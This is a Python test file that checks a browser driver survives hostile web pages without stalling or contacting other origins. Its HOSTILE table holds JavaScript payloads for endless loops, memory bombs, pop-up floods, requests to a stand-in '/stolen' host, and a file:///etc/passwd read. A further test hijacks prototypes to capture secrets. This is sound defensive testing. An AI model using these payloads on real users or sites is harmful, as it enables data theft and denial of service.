"""The browser's conversation against pages of all kinds, hostile ones among them: it ends in time, and leaves its origins never."""

from __future__ import annotations

import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from highshelf.core.errors import BrowserError, CancelledError, HighShelfError
from highshelf.core.origins import Origins
from highshelf.core.pages.reader import read
from highshelf.core.ports import CancelToken
from highshelf.drivers.browser.chromium import PREFIX, Browsers
from highshelf.drivers.browser.driver import BrowserTalk
from highshelf.drivers.http.fetch import HttpFetch

SITE = "http://quay.saltmarsh.example/"
# No hostile page holds a conversation longer.
MOST_SECONDS = 75.0


class Site:
    """Pages on loopback under the name of the site, and a place elsewhere that must never be asked for anything."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.asked: list[str] = []
        self.foreign: list[str] = []
        self.port, self._own = _served(self._answer)
        self.other, self._other = _served(self._elsewhere)

    def _answer(self, handler: BaseHTTPRequestHandler) -> None:
        self.asked.append(handler.path)
        path = handler.path.split("?")[0]
        if path == "/away":
            handler.send_response(302)
            handler.send_header("Location", f"http://127.0.0.1:{self.other}/stolen")
            handler.end_headers()
            return
        kind = "text/javascript" if path.endswith(".js") else "text/html; charset=utf-8"
        _send(handler, 200 if path in self.pages else 404, self.pages.get(path, ""), kind)

    def _elsewhere(self, handler: BaseHTTPRequestHandler) -> None:
        self.foreign.append(handler.path)
        _send(handler, 200, "<h1>Elsewhere</h1>", "text/html")

    def close(self) -> None:
        for server in (self._own, self._other):
            server.shutdown()
            server.server_close()


def _served(answer: Any) -> tuple[int, ThreadingHTTPServer]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            answer(self)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            answer(self)

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_port, server


def _send(handler: BaseHTTPRequestHandler, status: int, text: str, kind: str) -> None:
    content = text.encode()
    handler.send_response(status)
    handler.send_header("Content-Type", kind)
    handler.send_header("Content-Length", str(len(content)))
    handler.end_headers()
    handler.wfile.write(content)


@pytest.fixture(scope="module")
def browsers() -> Iterator[Browsers]:
    made = Browsers()
    yield made
    made.close()


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    yield made
    made.close()


@pytest.fixture
def talk(browsers: Browsers, site: Site, request: pytest.FixtureRequest) -> Iterator[BrowserTalk]:
    made = BrowserTalk(
        browsers,
        request.node.name,
        lambda: HttpFetch(Origins.of(SITE), address=SITE, reach=f"127.0.0.1:{site.port}"),
        CancelToken(),
    )
    yield made
    made.leave()


HOSTILE = {
    "dialogs without end": "<h1>Hello</h1><script>setInterval(() => alert('again'), 1)</script>",
    "a loop without end": "<h1>Hello</h1><script>setTimeout(() => { for (;;); }, 300)</script>",
    "a loop at once": "<h1>Hello</h1><script>for (;;);</script>",
    "windows without end": "<h1>Hello</h1><script>for (let i = 0; i < 60; i++) open('/pop' + i)</script>",
    "a window elsewhere": "<h1>Hello</h1><script>open('http://127.0.0.1:%(other)s/stolen')</script>",
    "will not be left": "<h1>Hello</h1><script>onbeforeunload = (e) => { e.preventDefault(); return 'stay'; }</script>",
    "a hundred megabytes": "<h1>Hello</h1><div id=a></div><script>const s = '<p>' + 'x'.repeat(1000) + '</p>'; document.getElementById('a').innerHTML = s.repeat(100000)</script>",
    "a tree without end": "<h1>Hello</h1><script>let at = document.body; for (let i = 0; i < 60000; i++) { const e = document.createElement('div'); at.append(e); if (i % 50) at = e; else at = document.body; }</script>",
    "saves without end": "<h1>Hello</h1><script>for (let i = 0; i < 30; i++) { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'.repeat(2000000)])); a.download = 'f' + i; a.click(); }</script>",
    "a picture elsewhere": "<h1>Hello</h1><img src='http://127.0.0.1:%(other)s/stolen'>",
    "a script elsewhere": "<h1>Hello</h1><script src='http://127.0.0.1:%(other)s/stolen.js'></script>",
    "a frame elsewhere": "<h1>Hello</h1><iframe src='http://127.0.0.1:%(other)s/stolen'></iframe>",
    "asks elsewhere": "<h1>Hello</h1><script>fetch('http://127.0.0.1:%(other)s/stolen', {mode: 'no-cors'})</script>",
    "asks our own machine": "<h1>Hello</h1><script>fetch('http://localhost:%(other)s/stolen', {mode: 'no-cors'}); navigator.sendBeacon('http://127.0.0.1:%(other)s/stolen')</script>",
    "a socket elsewhere": "<h1>Hello</h1><script>new WebSocket('ws://127.0.0.1:%(other)s/stolen')</script>",
    "goes elsewhere": "<h1>Hello</h1><script>setTimeout(() => location = 'http://127.0.0.1:%(other)s/stolen', 100)</script>",
    "is sent elsewhere": "<h1>Hello</h1><form method=post action='http://127.0.0.1:%(other)s/stolen'><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "a redirect elsewhere": "<h1>Hello</h1><script>fetch('/away')</script><img src=/away>",
    "a worker": "<h1>Hello</h1><script>navigator.serviceWorker && navigator.serviceWorker.register('/worker.js'); new Worker('/worker.js')</script>",
    "a local file": "<h1>Hello</h1><iframe src='file:///etc/passwd'></iframe><script>fetch('file:///etc/passwd').then(r => r.text()).then(t => document.body.append(t))</script>",
    "turns in a circle": "<h1>Hello</h1><script>setTimeout(() => location.reload(), 50)</script>",
    "changes all the time": "<h1>Hello</h1><p id=p></p><script>setInterval(() => document.getElementById('p').textContent = Math.random(), 20)</script>",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_page_neither_stalls_nor_leaves_its_origins(site: Site, talk: BrowserTalk, name: str) -> None:
    site.pages["/"] = "<title>T</title>" + HOSTILE[name].replace("%(other)s", str(site.other))
    site.pages["/worker.js"] = f"fetch('http://127.0.0.1:{site.other}/stolen', {{mode: 'no-cors'}})"
    site.pages["/after"] = "<title>After</title><h1>After</h1>"
    begun = time.monotonic()
    try:
        shown = talk.get(SITE)
        assert "root:" not in shown.html and "Elsewhere" not in shown.html
    except HighShelfError as fault:
        # Given up on, in words for people.
        assert fault.message
    # The next page is shown as ever, by the same conversation or, where that one was given up on, by a new one: as a job tries again.
    try:
        after = talk.get(SITE + "after")
    except HighShelfError:
        after = talk.get(SITE + "after")
    assert read(after).title == "After"
    assert time.monotonic() - begun < MOST_SECONDS
    assert site.foreign == []


def test_fields_are_filled_as_a_person_does_and_what_comes_late_is_waited_for(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = (
        "<h1>Begin</h1><label for=a>Name</label><input id=a><label><input type=checkbox id=b checked> Letters</label>"
        "<select id=c><option>one<option>two</select><button id=go disabled>Next</button><p id=out></p><script>"
        "const $ = (i) => document.getElementById(i); $('a').oninput = () => $('go').disabled = !$('a').value;"
        "$('go').onclick = () => { $('out').textContent = 'Wait'; setTimeout(async () => { await fetch('/late'); $('out').textContent = [$('a').value, $('b').checked, $('c').value].join(' ') }, 1200) }</script>"
    )
    form = read(talk.get(SITE)).forms[0]
    assert form.buttons[0].disabled
    shown, pressed = talk.press(form.buttons[0].at, [("a", "Kelda"), ("c", "two")])
    assert pressed
    for _ in range(5):
        if "Kelda false two" in shown.html:
            break
        time.sleep(0.5)
        shown = talk.look()
    assert "Kelda false two" in shown.html and "/late" in site.asked


def test_what_stays_shut_is_not_pressed(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = "<input name=a><button disabled onclick=\"fetch('/pressed')\">Next</button>"
    form = read(talk.get(SITE)).forms[0]
    _, pressed = talk.press(form.buttons[0].at, [("a", "x")])
    assert not pressed and "/pressed" not in site.asked


def test_fields_that_appear_are_shown_before_anything_is_pressed(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = (
        "<select name=k><option>file<option>server</select><span id=m></span><button onclick=\"fetch('/pressed')\">Next</button>"
        "<script>document.querySelector('select').onchange = () => document.getElementById('m').innerHTML = '<input name=host>'</script>"
    )
    form = read(talk.get(SITE)).forms[0]
    shown, pressed = talk.press(form.buttons[0].at, [("k", "server")])
    assert not pressed and "/pressed" not in site.asked
    assert "host" in {f.name for f in read(shown).forms[0].fields}


def test_dialogs_are_shown_and_what_would_destroy_is_refused(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = (
        "<button onclick=\"document.title = confirm('All tables will be deleted. Go on?') ? 'destroyed' : 'kept'\">One</button>"
        "<button onclick=\"document.title = confirm('Shall it be installed?') ? 'yes' : 'no'\">Two</button>"
    )
    one, two = read(talk.get(SITE)).forms[0].buttons
    shown, _ = talk.press(one.at, [])
    assert read(shown).title == "kept" and "All tables will be deleted" in read(shown).text
    two = read(shown).forms[0].buttons[1]
    assert read(talk.press(two.at, [])[0]).title == "yes"


def test_a_page_of_failure_that_says_nothing_is_a_page(site: Site, talk: BrowserTalk) -> None:
    """As PHP answers while its cache holds another application's code: empty, with a status."""
    seen = talk.get(SITE + "nothing-here")
    assert (seen.status, read(seen).text) == (404, "") and seen.url == SITE + "nothing-here"
    site.pages["/again"] = "<h1>Here</h1>"
    assert "Here" in talk.get(SITE + "again").html


def test_cookies_come_in_and_go_out(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = (
        "<h1></h1><script>document.querySelector('h1').textContent = document.cookie; document.cookie = 'made=here'</script>"
    )
    talk.restore('[["had", "before", "quay.saltmarsh.example", "/", false]]')
    assert "had=before" in talk.get(SITE).html
    assert '"made", "here"' in talk.cookies()


def test_a_picture_shows_no_secret(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = (
        "<body style='margin:0;background:#fff'><p style='font-size:40px;color:#f00'>Kelp-and-tar</p></body>"
    )
    talk.get(SITE)
    bare, painted = talk.picture([]), talk.picture(["Kelp-and-tar"])
    assert bare.startswith(b"\x89PNG") and bare != painted
    # What was painted over it is gone again.
    assert talk.picture([]) == bare


def test_a_page_is_told_no_secret_that_is_painted_over_in_it(site: Site, talk: BrowserTalk) -> None:
    site.pages["/"] = (
        "<h1>Hello</h1><p id=got></p><script>const got = []; const old = String.prototype.includes;"
        "String.prototype.includes = function (s) { got.push(s); return old.call(this, s) };"
        "Array.prototype.some = function (f) { got.push(...this); for (const x of this) if (f(x)) return true; return false };"
        "setInterval(() => { document.title = JSON.stringify(got).slice(0, 4000) }, 50)</script>"
    )
    talk.get(SITE)
    talk.picture(["Hosting-login-77"])
    time.sleep(0.3)
    assert "Hosting-login-77" not in talk.look().html


def test_cancelling_ends_a_long_wait(browsers: Browsers, site: Site) -> None:
    token = CancelToken()
    site.pages["/"] = "<h1>Hello</h1><script>for (;;);</script>"
    talk = BrowserTalk(browsers, "cancelled", lambda: HttpFetch(Origins.of(SITE), address=SITE, reach=f"127.0.0.1:{site.port}"), token)  # fmt: skip
    threading.Timer(2.0, token.cancel).start()
    begun = time.monotonic()
    with pytest.raises(CancelledError):
        talk.get(SITE)
    assert time.monotonic() - begun < 5


def test_what_the_library_raises_is_told_as_a_fault_of_ours_and_tried_again(browsers: Browsers, site: Site) -> None:
    site.pages["/"] = "<h1>Hello</h1>"

    async def gone(talk: Any) -> None:
        await talk.open(SITE)
        await talk._page.evaluate("() => missing.name")

    line = lambda: HttpFetch(Origins.of(SITE), address=SITE, reach=f"127.0.0.1:{site.port}")  # noqa: E731
    with pytest.raises(BrowserError, match="changed while it was being used") as told:
        browsers.run("raises", line, gone, CancelToken())
    assert told.value.retryable and told.value.hint
    browsers.leave("raises")


def test_what_an_ended_process_left_is_taken_away(browsers: Browsers, site: Site) -> None:
    gone = Path(tempfile.gettempdir()) / f"{PREFIX}{2**22 + 1}-left"
    (gone / "home").mkdir(parents=True)
    made = Browsers()
    site.pages["/"] = "<h1>Hello</h1>"
    line = lambda: HttpFetch(Origins.of(SITE), address=SITE, reach=f"127.0.0.1:{site.port}")  # noqa: E731
    assert "Hello" in BrowserTalk(made, "sweeps", line, CancelToken()).get(SITE).html
    made.close()
    assert not gone.exists()


def test_without_the_browser_it_is_said(site: Site, tmp_path: Any) -> None:
    talk = BrowserTalk(Browsers(tmp_path / "chromium"), "none", lambda: HttpFetch(Origins.of(SITE)), CancelToken())
    assert "not installed" in talk.missing
    with pytest.raises(BrowserError, match="not installed"):
        talk.get(SITE)
